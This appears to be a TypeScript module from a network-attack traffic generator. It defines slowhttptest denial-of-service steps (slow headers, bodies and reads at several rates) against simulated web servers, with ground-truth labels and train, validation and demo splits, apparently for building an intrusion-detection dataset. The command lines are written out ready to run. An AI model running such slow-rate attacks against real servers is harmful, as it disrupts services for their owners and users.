/** Slow-rate denial of service by slowhttptest: headers, bodies and reads that never end. */
import { type AttackFamily, type AttackStep, between } from './attack-step.ts';

const slow = (
  kind: 'headers' | 'body' | 'read',
  connections: number,
  rate: number,
  interval: number,
  seconds = 24,
): AttackStep => ({
  name: `slowhttptest ${kind} -c ${connections} -r ${rate} -i ${interval}`,
  class: 'slow_rate',
  seconds,
  command: ({ site, random, attacker }) => {
    const victim = random.pick(site.serving('web')).address;
    const kinds = {
      headers: ['-H', '-i', String(interval), '-x', String(random.integer(8, 40))],
      body: [
        '-B',
        '-i',
        String(interval),
        '-x',
        String(random.integer(8, 40)),
        '-s',
        String(random.integer(2000, 9000)),
      ],
      read: ['-X', '-w', '60', '-y', '220', '-n', String(interval), '-z', String(random.integer(8, 40)), '-k', '3'],
    } as const;
    const page = kind === 'read' ? 'snapshot.jpg' : 'index.html';
    const target = kind === 'body' ? `http://${victim}/app/search` : `http://${victim}/${page}`;
    return {
      from: attacker,
      argv: [
        'slowhttptest',
        ...kinds[kind],
        '-c',
        String(connections),
        '-r',
        String(rate),
        '-l',
        String(seconds),
        '-u',
        target,
        '-p',
        '3',
      ],
      truth: [between(attacker.address, victim)],
    };
  },
});

export const slowRate: AttackFamily = {
  name: 'slow-rate',
  description: 'slowhttptest: slow headers, bodies and reads, several rates',
  steps: {
    train: [
      slow('headers', 200, 50, 5),
      slow('headers', 80, 10, 10),
      slow('headers', 30, 3, 3),
      slow('body', 150, 40, 5),
      slow('body', 40, 5, 8),
      slow('read', 150, 30, 3),
      slow('read', 40, 6, 5),
    ],
    validation: [
      slow('headers', 120, 25, 7),
      slow('headers', 20, 2, 4),
      slow('body', 90, 15, 6),
      slow('read', 80, 12, 4),
    ],
    demo: [slow('headers', 100, 20, 5, 12)],
  },
};
